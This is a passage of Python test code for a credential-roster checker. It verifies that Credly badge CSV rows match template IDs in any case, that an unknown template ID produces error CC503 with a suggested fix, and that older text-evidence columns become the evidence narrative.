    rows = [
        f"{TEMPLATE.upper()},ada@example.com,Ada,,Lovelace,03/14/25,,,,,,,",  # any case, as UUIDs compare
        "cloud-essentials,bo@example.com,Bo,,Chen,03/14/25,,,,,,,",  # or the cc id itself
        "00000000-3d2a-4c8e-9b7f-1a2b3c4d5e6f,cy@example.com,Cy,,Diaz,03/14/25,,,,,,,",
    ]
    path = roster_file(tmp_path, "\ufeff" + CREDLY_HEADER + "".join(row + "\r\n" for row in rows))
    roster = read_roster(path)
    result = check_rows(roster, catalog, lambda email: set(), NOW, ZoneInfo("UTC"))
    assert [p.credential_id for p in result.valid] == ["cloud-essentials", "cloud-essentials"]
    assert codes(result) == [(4, 1, "CC503")]
    message = found(result)[0].message
    assert message.startswith("Badge Template ID '00000000-3d2a-4c8e-9b7f-1a2b3c4d5e6f' is no credential's")
    assert "add `credly_template_id: 00000000-3d2a-4c8e-9b7f-1a2b3c4d5e6f`" in message


def test_older_credly_text_evidence_name_is_the_title(tmp_path: Path) -> None:
    text = (
        "Badge Template ID,Recipient Email,Issued To First Name,Issued To Last Name,Text Evidence Description,"
        "Text Evidence Name\r\ncloud-essentials,ada@example.com,Ada,Lovelace,Ran the lab,Lab\r\n"
    )
    roster, result = check(roster_file(tmp_path, text))
    assert found(result) == [] and result.valid[0].evidence_narrative == "Lab\n\nRan the lab"
    assert roster.ignored == []
